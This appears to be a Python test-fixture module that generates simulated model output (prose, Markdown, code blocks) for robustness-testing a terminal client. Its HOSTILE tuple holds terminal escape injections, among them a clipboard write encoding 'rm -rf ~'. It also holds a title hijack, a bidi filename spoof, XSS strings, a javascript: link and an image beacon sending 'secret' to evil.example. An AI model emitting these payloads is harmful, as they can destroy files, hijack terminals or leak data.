"""What the simulated models say: prose, Markdown of every kind, and hostile text."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from random import Random

SENTENCES = (
    "A stream is only as steady as its slowest reader.",
    "The first token tells how long the queue was, the second how fast the model is.",
    "Measure the median and the tail; the mean hides both.",
    "A cache that is never invalidated is a rumour.",
    "Every retry needs a budget, otherwise an outage feeds itself.",
    "Small functions with plain names outlive clever ones.",
    "What was not written to disk did not happen.",
    "The terminal is the oldest window that still opens on every machine.",
    "A good error says what happened and what to do next.",
    "Latency adds up along the path, and nobody owns the sum.",
    "Prefer a queue with a limit to a queue with hope.",
    "Two runs of the same prompt differ more than two models sometimes do.",
    "Compare like with like: same prompt, same parameters, same time of day.",
    "Long answers are cheap to ask for and dear to read.",
    "When in doubt, print the raw bytes and look at them.",
    "An index makes reading fast and writing honest about its price.",
)

THOUGHTS = (
    "The question looks simple, but I should check what is really being asked.",
    "Let me list what is known and what is only assumed.",
    "First idea: take the obvious path and see where it breaks.",
    "That does not hold for an empty input, so the order has to change.",
    "Comparing both variants, the second needs less state.",
    "I can test it on a small example before I generalise.",
    "The numbers agree with the estimate, so the approach seems sound.",
    "One objection is left, and it concerns the limits.",
)

SUBJECTS = (
    "Streaming",
    "Backpressure",
    "Caching",
    "Retries",
    "Indexes",
    "Sampling",
    "Context windows",
    "Rate limits",
    "Scheduling",
    "Observability",
)

_CODE = {
    "python": """from collections import deque


class Window:
    \"\"\"The last values of a series.\"\"\"

    def __init__(self, size: int = {number}) -> None:
        self.values: deque[float] = deque(maxlen=size)

    def mean(self) -> float | None:
        return sum(self.values) / len(self.values) if self.values else None
""",
    "json": """{{
  "topic": "{subject}",
  "limit": {number},
  "enabled": true,
  "steps": ["measure", "change", "measure"]
}}
""",
    "bash": """set -euo pipefail
for run in $(seq 1 {number}); do
  time ./measure --topic "{subject}" > "run-$run.log"
done
""",
    "sql": """SELECT model, count(*) AS runs, avg(latency_ms) AS latency
FROM runs
WHERE topic = '{subject}' AND latency_ms > {number}
GROUP BY model
ORDER BY latency DESC;
""",
    "diff": """--- a/limits.toml
+++ b/limits.toml
@@ -1,3 +1,3 @@
 topic = "{subject}"
-limit = 10
+limit = {number}
""",
    "rust": """fn main() {{
    let limits: Vec<u32> = (1..={number}).collect();
    println!("{subject}: {{}}", limits.iter().sum::<u32>());
}}
""",
}

HOSTILE = (
    "Colours \x1b[31;1mred\x1b[0m, a cleared screen \x1b[2J\x1b[H, a title \x1b]0;owned\x07, "
    "the clipboard \x1b]52;c;cm0gLXJmIH4=\x07, a link \x1b]8;;https://evil.example\x1b\\here\x1b]8;;"
    "\x1b\\, a report asked for \x1b[6n\x1bP$q q\x1b\\, 8-bit \x9b31m \x9d0;t\x9c.\n",
    "Overwritten\rby this, deleted\x08\x08\x7f, rung \x07, ended \x00, next line \x85.\n",
    "Bidi \u202egnp.exe\u202c \u2066isolated\u2069, zero\u200bwidth, soft\xadhyphen, joined\u2060, "
    "tags 🏴\U000e0068\U000e0069, selectors \ufe0f\ufe0f, surrogate \ud800.\n",
    "Markup [bold]not bold[/bold] [/] [@click=app.quit]do not press[/] [link=https://evil.example]x"
    "[/link] {{template}} <b>html</b> &amp;\n",
    "A [link](javascript:alert(1)) and ![an image](https://evil.example/pixel.png?q=secret).\n",
    "Emoji that must survive: 👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇩🇪 1️⃣ می‌خواهم 日本語 e\u0301.\n",
    "An unfinished title: \x1b]0;this is not the title\n",
    '~~~~ "><script>alert(1)</script>\nstill code\n~~~~\n',
    "```python title=[/]\nprint('the fence is never closed')\n",
)
"""Everything here has hurt a terminal program. Nothing of it may act, and no text may be lost."""


def prose(rng: Random, gap: str = "") -> Iterator[str]:
    """Sentences without end; `gap` comes before the first."""
    return _shuffled(SENTENCES, rng, gap)


def thoughts(rng: Random) -> Iterator[str]:
    return _shuffled(THOUGHTS, rng, "")


def hostile() -> Iterator[str]:
    while True:
        yield from HOSTILE


def markdown(rng: Random) -> Iterator[str]:
    """Blocks of Markdown without end, beginning with a heading; each kind comes in each round."""
    yield f"# {rng.choice(SUBJECTS)} in practice\n\n"
    while True:
        for kind in rng.sample(_BLOCKS, len(_BLOCKS)):
            yield kind(rng)


def _shuffled(sentences: tuple[str, ...], rng: Random, gap: str) -> Iterator[str]:
    while True:
        for sentence in rng.sample(sentences, len(sentences)):
            yield gap + sentence
            gap = " "


def _some(rng: Random, number: int) -> list[str]:
    return rng.sample(SENTENCES, number)


def _section(rng: Random) -> str:
    first, second, third = _some(rng, 3)
    strong = f"**{first}** {second} Say `limit = {rng.randint(2, 99)}`, *then* measure."
    return f"## {rng.choice(SUBJECTS)}\n\n{strong} {third}\n\n"


def _bullets(rng: Random) -> str:
    first, second, third = _some(rng, 3)
    return f"- {first}\n- **Note:** {second}\n  - {third}\n\n"


def _steps(rng: Random) -> str:
    lines = [f"{number}. {text}" for number, text in enumerate(_some(rng, 3), 1)]
    return "\n".join(lines) + "\n\n"


def _quote(rng: Random) -> str:
    first, second = _some(rng, 2)
    return f"> {first}\n>\n> {second}\n\n"


def _table(rng: Random) -> str:
    rows = [f"| {name} | {rng.randint(20, 900)} | {rng.random():.2f} |" for name in _names(rng)]
    return "\n".join(["| topic | p95 ms | share |", "|---|---:|:---:|", *rows]) + "\n\n"


def _names(rng: Random) -> list[str]:
    return rng.sample(SUBJECTS, 3)


def _fence(language: str) -> Callable[[Random], str]:
    def block(rng: Random) -> str:
        code = _CODE[language].format(
            subject=rng.choice(SUBJECTS).lower(), number=rng.randint(2, 99)
        )
        return f"```{language}\n{code}```\n\n"

    return block


_BLOCKS = (_section, _bullets, _section, _steps, _quote, _table, *map(_fence, _CODE))
